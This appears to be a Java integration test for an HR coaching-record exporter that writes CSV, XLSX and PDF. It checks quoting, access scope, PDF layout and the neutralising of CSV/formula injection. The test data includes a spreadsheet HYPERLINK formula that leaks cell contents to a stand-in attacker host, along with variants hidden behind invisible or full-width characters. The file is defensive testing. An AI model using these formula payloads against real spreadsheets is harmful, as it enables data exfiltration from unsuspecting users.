package dimple.infrastructure.coaching;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.catchThrowableOfType;

import com.lowagie.text.pdf.PdfReader;
import com.lowagie.text.pdf.parser.PdfTextExtractor;
import dimple.application.coaching.ExportFormat;
import dimple.application.coaching.ExportHeading;
import dimple.application.coaching.ExportInterrupted;
import dimple.application.coaching.ExportWords;
import dimple.domain.coaching.CoachingRecord;
import dimple.domain.coaching.CoachingRecordQuery;
import dimple.domain.coaching.Conversation;
import dimple.domain.shared.Ids;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.InputStream;
import java.io.OutputStream;
import java.io.StringReader;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.LocalDate;
import java.util.ArrayList;
import java.util.List;
import java.util.regex.Matcher;
import java.util.regex.Pattern;
import java.util.zip.ZipEntry;
import java.util.zip.ZipFile;
import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVParser;
import org.apache.commons.csv.CSVRecord;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.Test;

/** The three export formats over a real database: content, RFC 4180, formula neutralisation, scope. */
class JpaCoachingExporterIT {
    private static final String FORMULA = "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Click\")";
    private static final ExportHeading HEADING = new ExportHeading("team=Front Desk", "Hana HR (hana)", CoachingWorld.T0);

    private final CoachingWorld w = new CoachingWorld();
    private final String lesson = Ids.newId();
    private final CoachingRecord declined;

    JpaCoachingExporterIT() {
        LocalDate held = CoachingWorld.TODAY.minusDays(3);
        declined = CoachingRecord.draft(w.lena.id(), w.emma.id(), w.frontDesk.id(), new Conversation(held, "+1 for the handover book",
                "-checks before a retry", "@desk: the terminal \"timed out\", twice,\nthen a second line", "\tsee the log\r",
                held.plusDays(14), List.of(lesson)), null, CoachingWorld.T0);
        declined.share(w.lena.id(), CoachingWorld.T0.plusSeconds(60));
        declined.decline(w.emma.id(), FORMULA, CoachingWorld.T0.plusSeconds(120));
        CoachingRecord eli = w.shared(w.leo, w.eli, w.onlineOrders, CoachingWorld.TODAY.minusDays(1), "Eli's record");
        CoachingRecord draft = w.draft(w.lena, w.emma, w.frontDesk, CoachingWorld.TODAY, "A draft HR never sees");
        w.store(declined, eli, draft);
    }

    @AfterEach
    void drop() throws Exception {
        w.close();
    }

    private byte[] export(CoachingRecordQuery query, ExportFormat format) {
        return export(query, format, HEADING, EnglishWords.EXPORT);
    }

    private byte[] export(CoachingRecordQuery query, ExportFormat format, ExportHeading heading, ExportWords words) {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        long rows = w.db.inTransaction(em -> new JpaCoachingExporter(em).write(query, format, heading, words, out));
        assertThat(rows).isEqualTo(count(query));
        return out.toByteArray();
    }

    private long count(CoachingRecordQuery query) {
        return w.db.inTransaction(em -> new JpaCoachingRecordRepository(em).search(query, dimple.domain.shared.PageRequest.first(100)).total());
    }

    private static List<CSVRecord> parse(String csv) throws IOException {
        try (CSVParser parser = CSVFormat.RFC4180.builder().setHeader().setSkipHeaderRecord(true).get().parse(new StringReader(csv))) {
            return parser.getRecords();
        }
    }

    @Test
    void csv_isRfc4180WithAHeaderRow_everySharedRecordOnce_andNoDraft() throws IOException {
        String csv = new String(export(CoachingRecordQuery.visibleTo(w.hr()), ExportFormat.CSV), StandardCharsets.UTF_8);

        assertThat(csv).startsWith("Record id,Employee,Employee name,Team,Coach,Coach name,Held on,Topic,Expectation,Observations,"
                + "Agreed actions,Follow-up on,Lessons,Status,Shared at,Employee response,Employee comment,Responded at,Closed at,"
                + "Retain until,Assessment id\r\n");
        assertThat(csv.charAt(0)).as("no byte-order mark").isEqualTo('R');
        List<CSVRecord> records = parse(csv);
        assertThat(records).extracting(r -> r.get("Topic")).containsExactly("'+1 for the handover book", "Eli's record");
        assertThat(csv).doesNotContain("A draft HR never sees");
        CSVRecord emma = records.get(0);
        assertThat(emma.get("Record id")).isEqualTo(declined.id());
        assertThat(emma.get("Employee")).isEqualTo("emma");
        assertThat(emma.get("Employee name")).isEqualTo("Emma Employee");
        assertThat(emma.get("Team")).isEqualTo("Front Desk");
        assertThat(emma.get("Coach name")).isEqualTo("Lena Leader");
        assertThat(emma.get("Held on")).isEqualTo(CoachingWorld.TODAY.minusDays(3).toString());
        assertThat(emma.get("Lessons")).isEqualTo(lesson);
        assertThat(emma.get("Status")).isEqualTo("DECLINED");
        assertThat(emma.get("Employee response")).isEqualTo("DECLINED");
        assertThat(emma.get("Responded at")).isEqualTo("2026-11-23T10:02:00Z");
        assertThat(emma.get("Retain until")).isEqualTo(CoachingWorld.TODAY.minusDays(3).plusYears(2).toString());
    }

    @Test
    void csv_noCellCanBeReadAsAFormula_andQuotesCommasAndLineBreaksSurvive() throws IOException {
        String csv = new String(export(CoachingRecordQuery.visibleTo(w.hr()), ExportFormat.CSV), StandardCharsets.UTF_8);

        CSVRecord emma = parse(csv).get(0);
        assertThat(emma.get("Employee comment")).isEqualTo("'" + FORMULA);
        assertThat(emma.get("Topic")).isEqualTo("'+1 for the handover book");
        assertThat(emma.get("Expectation")).isEqualTo("'-checks before a retry");
        assertThat(emma.get("Observations")).isEqualTo("'@desk: the terminal \"timed out\", twice,\nthen a second line");
        assertThat(emma.get("Agreed actions")).as("the domain strips surrounding whitespace: a tab never leads a cell").isEqualTo("see the log");
        for (CSVRecord record : parse(csv)) {
            for (String cell : record.values()) {
                assertThat(cell).as("cell %s", cell).doesNotStartWith("=").doesNotStartWith("+").doesNotStartWith("-")
                        .doesNotStartWith("@").doesNotStartWith("\t").doesNotStartWith("\r");
            }
        }
    }

    @Test
    void xlsx_holdsTheSameCells_asInlineText_withNoFormulaAnywhere() throws IOException {
        byte[] xlsx = export(CoachingRecordQuery.visibleTo(w.hr()), ExportFormat.XLSX);

        String sheet = entry(xlsx, "xl/worksheets/sheet1.xml");
        assertThat(sheet).doesNotContain("<f>").doesNotContain("<f ");
        List<String> cells = inlineStrings(sheet);
        assertThat(cells).contains("Record id", "Employee comment", declined.id(), "Emma Employee", "'+1 for the handover book",
                "'-checks before a retry", "'" + FORMULA, "DECLINED", lesson);
        assertThat(cells).noneMatch(c -> c.startsWith("=") || c.startsWith("+") || c.startsWith("-") || c.startsWith("@")
                || c.startsWith("\t") || c.startsWith("\r"));
        assertThat(cells).doesNotContain("A draft HR never sees");
        assertThat(entry(xlsx, "[Content_Types].xml")).contains("spreadsheetml");
        assertThat(entry(xlsx, "xl/workbook.xml")).contains("name=\"Coaching records\"");
    }

    /**
     * Formulas hidden behind characters nobody sees (NUL, a zero-width space, a no-break space, a byte-order
     * mark, a full-width equals sign) are neutralised in the files as they are read back; fastexcel drops the
     * NUL, so without the apostrophe the XLSX cell would start with the formula itself.
     */
    @Test
    void csvAndXlsx_formulasBehindInvisibleCharacters_areNeutralisedWhenReadBack() throws IOException {
        LocalDate held = CoachingWorld.TODAY.minusDays(2);
        CoachingRecord hidden = CoachingRecord.draft(w.leo.id(), w.eli.id(), w.onlineOrders.id(), new Conversation(held,
                "\u0000" + FORMULA, "\u200B=1+1", "\u00A0\u00A0-2+3", "\uFEFF@SUM(A1:A2)", held.plusDays(7), List.of()), null,
                CoachingWorld.T0);
        hidden.share(w.leo.id(), CoachingWorld.T0.plusSeconds(60));
        hidden.decline(w.eli.id(), "\uFF1DHYPERLINK(\"http://evil.example\")", CoachingWorld.T0.plusSeconds(120));
        w.store(hidden);

        CSVRecord row = parse(new String(export(CoachingRecordQuery.visibleTo(w.hr()), ExportFormat.CSV), StandardCharsets.UTF_8))
                .stream().filter(r -> r.get("Record id").equals(hidden.id())).findFirst().orElseThrow();
        assertThat(row.get("Topic")).isEqualTo("'\u0000" + FORMULA);
        assertThat(row.get("Expectation")).isEqualTo("'\u200B=1+1");
        assertThat(row.get("Observations")).isEqualTo("'\u00A0\u00A0-2+3");
        assertThat(row.get("Agreed actions")).isEqualTo("'\uFEFF@SUM(A1:A2)");
        assertThat(row.get("Employee comment")).isEqualTo("'\uFF1DHYPERLINK(\"http://evil.example\")");

        List<String> cells = inlineStrings(entry(export(CoachingRecordQuery.visibleTo(w.hr()), ExportFormat.XLSX), "xl/worksheets/sheet1.xml"));
        assertThat(cells).contains("'" + FORMULA, "'\u200B=1+1", "'\u00A0\u00A0-2+3", "'\uFEFF@SUM(A1:A2)",
                "'\uFF1DHYPERLINK(\"http://evil.example\")");
        assertThat(cells).as("no cell shows a formula once the characters nobody sees are gone")
                .noneMatch(c -> c.replaceAll("[\\p{Cc}\\p{Cf}\\p{Z}]", "").matches("(?s)[=+\\-@\uFF1D].*"));
    }

    @Test
    void pdf_isReadable_oneSectionPerRecord_withHeadingsAndPageNumbers() throws IOException {
        byte[] pdf = export(CoachingRecordQuery.visibleTo(w.hr()), ExportFormat.PDF);

        assertThat(new String(pdf, 0, 5, StandardCharsets.ISO_8859_1)).isEqualTo("%PDF-");
        PdfReader reader = new PdfReader(pdf);
        int pages = reader.getNumberOfPages();
        String text = new PdfTextExtractor(reader).getTextFromPage(1);
        assertThat(text).contains("Coaching records", "restricted", "Filter: team=Front Desk", "Exported by Hana HR (hana)",
                "Page 1 of " + pages);
        StringBuilder all = new StringBuilder();
        for (int p = 1; p <= pages; p++) {
            all.append(new PdfTextExtractor(reader).getTextFromPage(p));
        }
        assertThat(all.toString()).contains("Emma Employee", "+1 for the handover book", "Employee comment", FORMULA.substring(0, 20),
                "Eli Employee", "Eli's record", "Coaching records \u2014 restricted", "Exported by Hana HR (hana), 2026-11-23 10:00 UTC",
                "Team Front Desk \u00b7 coach Lena Leader (lena) \u00b7 employee emma \u00b7 record " + declined.id(), "Held on",
                "Follow-up on", "Retain until", "Assessment").doesNotContain("A draft HR never sees");
        reader.close();
    }

    @Test
    void pdf_ofEveryRecord_saysSoInItsFilterLine() throws IOException {
        byte[] pdf = export(CoachingRecordQuery.visibleTo(w.hr()), ExportFormat.PDF, new ExportHeading("", "Hana HR (hana)", CoachingWorld.T0),
                EnglishWords.EXPORT);

        assertThat(new PdfTextExtractor(new PdfReader(pdf)).getTextFromPage(1)).contains("Filter: all records");
    }

    /**
     * The file's own words all come from the words the web tier hands in (ADR 20): given other words, no
     * English is left in any format, and the records are still written as stored.
     */
    @Test
    void everyFormat_writesOnlyTheWordsItIsGiven() throws IOException {
        ExportWords codes = (code, args) -> code.substring(code.lastIndexOf('.') + 1).toUpperCase(java.util.Locale.ROOT)
                + (args.length == 0 ? "" : "(" + String.join(";", java.util.Arrays.stream(args).map(String::valueOf).toList()) + ")");
        CoachingRecordQuery all = CoachingRecordQuery.visibleTo(w.hr());
        List<String> english = List.of("Coaching records", "Record id", "Employee name", "Held on", "Assessment", "restricted", "Exported by",
                "Filter", "Page", "coach ", "all records");

        String csv = new String(export(all, ExportFormat.CSV, HEADING, codes), StandardCharsets.UTF_8);
        assertThat(csv).startsWith("ID,EMPLOYEE,EMPLOYEENAME,TEAM,COACH,COACHNAME,HELDON,TOPIC,EXPECTATION,OBSERVATIONS,AGREEDACTIONS,"
                + "FOLLOWUPON,LESSONS,STATUS,SHAREDAT,EMPLOYEERESPONSE,EMPLOYEECOMMENT,RESPONDEDAT,CLOSEDAT,RETAINUNTIL,ASSESSMENTID\r\n");
        assertThat(csv).contains("'+1 for the handover book").doesNotContain(english);

        byte[] xlsx = export(all, ExportFormat.XLSX, HEADING, codes);
        assertThat(entry(xlsx, "xl/workbook.xml")).contains("name=\"TITLE\"");
        assertThat(inlineStrings(entry(xlsx, "xl/worksheets/sheet1.xml"))).contains("ID", "ASSESSMENTID", "'+1 for the handover book")
                .doesNotContainAnyElementsOf(english);

        PdfReader reader = new PdfReader(export(all, ExportFormat.PDF, new ExportHeading("", "Hana HR (hana)", CoachingWorld.T0), codes));
        String page = new PdfTextExtractor(reader).getTextFromPage(1);
        assertThat(page).contains("HEADING(TITLE)", "EXPORTEDBY(Hana HR (hana);2026-11-23 10:00 UTC)", "FILTER(EVERYTHING)",
                "RECORD(Front Desk;Lena Leader;lena;emma;" + declined.id() + ")", "HELDON", "ASSESSMENT", "Emma Employee",
                "PAGE(1;" + reader.getNumberOfPages() + ")").doesNotContain(english);
        PdfReader none = new PdfReader(export(new CoachingRecordQuery(w.hr(), null, w.hana.id(), null, null, null, null), ExportFormat.PDF,
                HEADING, codes));
        assertThat(new PdfTextExtractor(none).getTextFromPage(1)).contains("NONE", "FILTER(team=Front Desk)", "PAGE(1;1)");
    }

    @Test
    void pdf_withoutRecords_saysSo() throws IOException {
        byte[] pdf = export(new CoachingRecordQuery(w.hr(), null, w.hana.id(), null, null, null, null), ExportFormat.PDF);

        PdfReader reader = new PdfReader(pdf);
        assertThat(new PdfTextExtractor(reader).getTextFromPage(1)).contains("No coaching records match this filter.", "Page 1 of 1");
    }

    @Test
    void export_followsTheQueryScope_anEmployeeOnlyTheirOwnSharedRecords() throws IOException {
        String csv = new String(export(CoachingRecordQuery.visibleTo(w.employee(w.eli)), ExportFormat.CSV), StandardCharsets.UTF_8);

        assertThat(parse(csv)).extracting(r -> r.get("Employee")).containsExactly("eli");
    }

    @Test
    void export_leavesTheCallersStreamOpen() {
        ClosingWatcher out = new ClosingWatcher();
        for (ExportFormat format : ExportFormat.values()) {
            w.db.inTransaction(em -> new JpaCoachingExporter(em).write(CoachingRecordQuery.visibleTo(w.hr()), format, HEADING,
                    EnglishWords.EXPORT, out));
        }

        assertThat(out.closed).isFalse();
        assertThat(out.size()).isPositive();
    }

    @Test
    void export_toAStreamThatBreaks_saysHowManyRecordsHadLeft() {
        OutputStream broken = new OutputStream() {
            @Override
            public void write(int b) throws IOException {
                throw new IOException("Broken pipe");
            }
        };

        ExportInterrupted interrupted = catchThrowableOfType(ExportInterrupted.class, () -> w.db.inTransaction(em ->
                new JpaCoachingExporter(em).write(CoachingRecordQuery.visibleTo(w.hr()), ExportFormat.CSV, HEADING, EnglishWords.EXPORT,
                        broken)));

        assertThat(interrupted.rowsWritten()).isBetween(0L, 2L);
        assertThat(interrupted).hasRootCauseInstanceOf(IOException.class);
    }

    /** One file of a workbook, read through the zip's central directory (as spreadsheet programs do). */
    static String entry(byte[] zip, String name) throws IOException {
        Path file = Files.createTempFile("coaching", ".xlsx");
        try (ZipFile workbook = new ZipFile(Files.write(file, zip).toFile())) {
            ZipEntry entry = workbook.getEntry(name);
            if (entry == null) {
                throw new AssertionError("no " + name + " in the workbook");
            }
            try (InputStream in = workbook.getInputStream(entry)) {
                return new String(in.readAllBytes(), StandardCharsets.UTF_8);
            }
        } finally {
            Files.deleteIfExists(file);
        }
    }

    /** The text of every inline-string cell of a sheet, XML entities decoded. */
    static List<String> inlineStrings(String sheet) {
        List<String> cells = new ArrayList<>();
        Matcher m = Pattern.compile("<is><t[^>]*>(.*?)</t></is>", Pattern.DOTALL).matcher(sheet);
        while (m.find()) {
            cells.add(unescape(m.group(1)));
        }
        return cells;
    }

    private static String unescape(String xml) {
        Matcher m = Pattern.compile("&#(x?)([0-9a-fA-F]+);").matcher(xml);
        StringBuilder out = new StringBuilder();
        while (m.find()) {
            int cp = Integer.parseInt(m.group(2), m.group(1).isEmpty() ? 10 : 16);
            m.appendReplacement(out, Matcher.quoteReplacement(new String(Character.toChars(cp))));
        }
        m.appendTail(out);
        return out.toString().replace("&lt;", "<").replace("&gt;", ">").replace("&quot;", "\"").replace("&apos;", "'").replace("&amp;", "&");
    }

    private static final class ClosingWatcher extends ByteArrayOutputStream {
        boolean closed;

        @Override
        public void close() {
            closed = true;
        }
    }
}
